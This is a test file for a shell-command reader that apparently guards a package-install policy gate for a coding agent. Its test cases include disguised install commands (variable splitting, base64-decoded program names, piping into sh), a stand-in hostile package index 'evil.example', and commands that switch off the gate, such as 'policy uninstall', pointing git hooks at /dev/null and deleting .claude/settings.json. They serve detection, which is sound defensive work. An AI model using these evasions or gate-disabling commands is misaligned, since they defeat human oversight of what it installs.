import assert from "node:assert/strict";
import { readCommand } from "./shell.ts";
import { mightMatter } from "./shell_sniff.ts";
import { manifestDependencies } from "./manifests.ts";

const PYPROJECT = `[project]\nname = "demo"\ndependencies = [\n    "requests>=2.31",\n]\n`;
const FILES: Record<string, string> = {
  "/p/setup_env.sh": "#!/bin/sh\nset -e\n# dependencies\npip install pycrypto\n",
  "/p/requirements.txt": "requests==2.31.0\n",
  "/p/pyproject.toml": PYPROJECT,
  "/p/extra.txt": "pycrypto\n",
};
const read = (path: string) => FILES[path] ?? null;

function names(command: string): string[] {
  return readCommand(command, "/p", read).packages.map((r) =>
    `${r.name}${r.version ? `@${r.version}` : ""}`
  );
}

Deno.test("readCommand() reads assignments, expansions, # inside words, loops and variables", () => {
  const cases: Array<[string, string[]]> = [
    ["A=pycrypto; pip install $A", ["pycrypto"]],
    ["PIP_INDEX=https://x/simple; pip install -i $PIP_INDEX pycrypto", ["pycrypto"]],
    ["API_DIR=$(pwd)\ncd $API_DIR\npip install pycrypto", ["pycrypto"]],
    ['pipx install pycrypto ${PYTHON_PATH:+--python "$PYTHON_PATH"}', ["pycrypto"]],
    ["pip install ${PKG:-pycrypto}", ["pycrypto"]],
    ["pip install git+https://example.org/tool.git#egg=tool pycrypto", ["tool", "pycrypto"]],
    ['for p in requests pycrypto; do pip install "$p"; done', ["requests", "pycrypto"]],
    ["export PKG=pycrypto && uv add $PKG", ["pycrypto"]],
    ["V=2.6.1; pip install pycrypto==$V", ["pycrypto@2.6.1"]],
    ["# install the tools\npip install pycrypto", ["pycrypto"]],
    ["alias p='python3 -m pip'; p install pycrypto", ["pycrypto"]],
    ["pip install requests # pinned later\nuv add pycrypto", ["requests", "pycrypto"]],
  ];
  for (const [command, expected] of cases) assert.deepEqual(names(command), expected, command);
});

Deno.test("readCommand() reads every runner, option order, installer and prefix", () => {
  const cases: Array<[string, string[]]> = [
    ["poetry run pip install pycrypto", ["pycrypto"]],
    ["uv run pip install pycrypto", ["pycrypto"]],
    ["uv run --with rich python -m pip install pycrypto", ["rich", "pycrypto"]],
    ["pdm run pip install pycrypto", ["pycrypto"]],
    ["pipenv run pip install pycrypto", ["pycrypto"]],
    ["hatch run pip install pycrypto", ["pycrypto"]],
    ["hatch -e test run dev:pip install pycrypto", ["pycrypto"]],
    ["conda run -n base pip install pycrypto", ["pycrypto"]],
    ["pip -q install pycrypto", ["pycrypto"]],
    ["pip --disable-pip-version-check --timeout 60 install pycrypto", ["pycrypto"]],
    ["uv --directory packages/api add pycrypto", ["pycrypto"]],
    ["poetry -C packages/api add pycrypto", ["pycrypto"]],
    ["pdm -p packages/api add pycrypto", ["pycrypto"]],
    ["pipenv install pycrypto", ["pycrypto"]],
    ["uv pip sync extra.txt", ["pycrypto"]],
    ["pip-sync extra.txt", ["pycrypto"]],
    ["pipx inject black pycrypto", ["black", "pycrypto"]],
    ["rye add pycrypto", ["pycrypto"]],
    ["easy_install pycrypto", ["pycrypto"]],
    ["timeout 600 pip install pycrypto", ["pycrypto"]],
    ["nice -n 10 time -p pip install pycrypto", ["pycrypto"]],
    ["pip install https://files.example.org/pycrypto-2.6.1.tar.gz", ["pycrypto@2.6.1"]],
    ["pip install ./wheels/pycrypto-2.6.1-cp312-cp312-linux_x86_64.whl", ["pycrypto@2.6.1"]],
    ["pip install -e git+https://github.com/x/y.git#egg=pycrypto", ["pycrypto"]],
    ["pip install -e .", []],
    ["bash setup_env.sh", ["pycrypto"]],
    [". ./setup_env.sh", ["pycrypto"]],
    ["echo 'pip install pycrypto' | sh", ["pycrypto"]],
    [`python -c "import os; os.system('pip install pycrypto')"`, ["pycrypto"]],
    [`python3 -c 'import subprocess; subprocess.run(["pip", "install", "pycrypto"])'`, [
      "pycrypto",
    ]],
    [`python -c "import pip; pip.main(['install', 'pycrypto'])"`, ["pycrypto"]],
    ["python3 -Im pip install pycrypto", ["pycrypto"]],
    ["python -m pip install -c constraints.txt pycrypto", ["pycrypto"]],
    ["pipx runpip black install pycrypto", ["pycrypto"]],
    ["$PYTHON -m pip install pycrypto", ["pycrypto"]],
    ['"$VENV/bin/pip" install pycrypto', ["pycrypto"]],
    ["pip install $VENV/lib/x", []],
  ];
  for (const [command, expected] of cases) assert.deepEqual(names(command), expected, command);
});

function added(command: string): string[] {
  const reading = readCommand(command, "/p", read);
  return reading.changes.flatMap((change) => {
    const kind = change.path.endsWith(".toml") ? "pyproject" : "requirements";
    const before = manifestDependencies(kind, read(change.path) ?? "");
    const after = manifestDependencies(kind, change.after(read(change.path)) ?? "");
    return [...after.keys()].filter((n) => !before.has(n));
  });
}

Deno.test("readCommand() applies shell writes into manifests to a copy", () => {
  assert.deepEqual(added("echo pycrypto >> requirements.txt"), ["pycrypto"]);
  assert.deepEqual(added("printf 'pycrypto\\n' | tee -a requirements.txt"), ["pycrypto"]);
  assert.deepEqual(added("cat >> requirements.txt <<'EOF'\npycrypto==2.6.1\nEOF"), ["pycrypto"]);
  assert.deepEqual(added("cat extra.txt > requirements.txt"), ["pycrypto"]);
  assert.deepEqual(added("cp extra.txt requirements-dev.txt"), ["pycrypto"]);
  assert.deepEqual(
    added(`sed -i 's/"requests>=2.31",/"requests>=2.31", "pycrypto",/' pyproject.toml`),
    ["pycrypto"],
  );
  assert.deepEqual(added(`sed -i '/requests/a\\    "pycrypto",' pyproject.toml`), ["pycrypto"]);
  // the file written first is the one installed from next
  assert.deepEqual(names("echo pycrypto >> requirements.txt && pip install -r requirements.txt"), [
    "requests@2.31.0",
    "pycrypto",
  ]);
  const unreadable = readCommand("curl -s https://x/reqs > requirements.txt", "/p", read);
  assert.match(unreadable.problems[0], /cannot tell what `curl` writes to \/p\/requirements.txt/);
  assert.deepEqual(readCommand("pip freeze > requirements.txt", "/p", read).problems, []);
  assert.match(
    readCommand("sed -i -f edit.sed pyproject.toml", "/p", read).problems[0],
    /cannot read the `sed` script/,
  );
});

Deno.test("readCommand() names indexes, approvals, touched gate files and what it cannot read", () => {
  const r = (command: string) => readCommand(command, "/p", read);
  assert.deepEqual(r("pip install -i https://evil.example/simple x").indexes, [
    "https://evil.example/simple",
  ]);
  assert.deepEqual(r("pip install --extra-index-url=https://e/simple x").indexes, [
    "https://e/simple",
  ]);
  assert.deepEqual(r("uv add flash-attn --index astral=https://wheels.example/simple").indexes, [
    "https://wheels.example/simple",
  ]);
  assert.deepEqual(r("UV_DEFAULT_INDEX=https://e/simple uv add x").indexes, ["https://e/simple"]);
  assert.deepEqual(r("export PIP_INDEX_URL=https://e/simple\npip install x").indexes, [
    "https://e/simple",
  ]);
  assert.deepEqual(r(`pipx install x --pip-args="--index-url https://e/simple"`).indexes, [
    "https://e/simple",
  ]);
  assert.equal(r("policy approve pycrypto").approvals.length, 1);
  assert.equal(
    r("curl -X POST -H 'content-type: application/json' -d '{}' http://h/api/v1/registry/proposals")
      .approvals.length,
    1,
  );
  assert.equal(r("http POST :8765/api/v1/registry/proposals package=x").approvals.length, 1);
  assert.equal(r("curl http://h/api/v1/registry/proposals").approvals.length, 0);
  assert.equal(r("policy request-approval x --rationale y").approvals.length, 0);
  assert.deepEqual(r("echo 'fail_open = true' >> .policy.toml").touched, ["/p/.policy.toml"]);
  assert.deepEqual(r("rm -f .claude/settings.json").touched, ["/p/.claude/settings.json"]);
  assert.equal(r("policy uninstall").disables.length, 1);
  assert.equal(r("git config core.hooksPath /dev/null").disables.length, 1);
  assert.match(r("pip install $PKG").problems[0], /cannot tell which package `\$PKG`/);
  assert.match(r("$INSTALLER install x").problems[0], /cannot tell which program/);
  assert.match(r("$(echo cGlw | base64 -d) x").problems[0], /cannot tell what `\$\(…\)` runs/);
  assert.deepEqual(
    r("a=pi; b=p; c=inst; d=all; $a$b $c$d pycrypto").packages.map((p) => p.name),
    ["pycrypto"],
  );
  assert.deepEqual(r('"$VENV/bin/pip" install x').problems, []);
  assert.match(r("pip install `echo pycrypto`").problems[0], /cannot tell which package/);
  assert.match(r("pip install -r <(echo pycrypto)").problems[0], /cannot tell which file/);
  assert.match(r(`python -c "import runpy; runpy.run_module('pip')"`).problems[0], /python -c/);
});

Deno.test("mightMatter() lets commands that install nothing skip the reader, and no install", () => {
  for (const command of ["ls -la && git status", "deno task test", "cat README.md | head"]) {
    assert.equal(mightMatter(command), false, command);
  }
  for (
    const command of [
      "pip install x",
      "A=p; $A install x",
      "echo x >> requirements.txt",
      "rm .policy.toml",
      "policy uninstall",
      "git config core.hooksPath /tmp/none",
      "python3 -m pip install x",
      "curl -d @a http://h/api/v1/registry/proposals",
      "UV_DEFAULT_INDEX=https://e uv sync",
      "bash setup_env.sh",
      ". ./env.sh",
      "'p'ip i'n'stall x",
      "a=pi; b=p; c=inst; d=all; $a$b $c$d x",
      "$(echo cGlw | base64 -d) x",
      "echo 'setup(install_requires=[])' > setup.py",
    ]
  ) assert.equal(mightMatter(command), true, command);
});

Deno.test("readCommand(): uv's tool runner given a Python interpreter installs no package", () => {
  const cases: Array<[string, string[]]> = [
    ["uvx python -c 'print(1)'", []],
    ["uvx python@3.12 -m venv .venv", []],
    ["uvx python3.11 script.py", []],
    ["uv tool run python -V", []],
    ["uvx pypy@3.10 -c pass", []],
    ["uvx --with pycrypto python -c 'import Crypto'", ["pycrypto"]],
    ["uvx python-dotenv --help", ["python-dotenv"]], // a package whose name starts with python
    ["uvx pythonx", ["pythonx"]],
    ["pipx run python-semantic-release", ["python-semantic-release"]],
  ];
  for (const [command, expected] of cases) assert.deepEqual(names(command), expected, command);
});

Deno.test("readCommand(): a VCS URL without #egg= is guessed as its repository name, never its ref", () => {
  const cases: Array<[string, string]> = [
    ["uvx --from git+https://github.com/httpie/cli@master httpie", "cli"],
    [
      "pipx install --suffix @pr1234 git+https://github.com/python-poetry/poetry.git@refs/pull/1234/head",
      "poetry",
    ],
    ["pip install git+ssh://git@github.com/acme/tool.git@v1.2#subdirectory=py", "tool"],
    ["pip install git+git@github.com:acme/my_tool.git", "my-tool"],
    ["pip install hg+https://hg.example.org/acme/widget@default", "widget"],
  ];
  for (const [command, name] of cases) {
    const found = readCommand(command, "/p", read).packages.filter((p) => p.guessed);
    assert.deepEqual(found.map((p) => [p.name, p.loose]), [[name, true]], command);
  }
  const named = readCommand("pip install git+https://x.org/a/b.git@main#egg=pycrypto", "/p", read);
  assert.deepEqual(named.packages.map((p) => [p.name, p.guessed ?? false]), [["pycrypto", false]]);
});
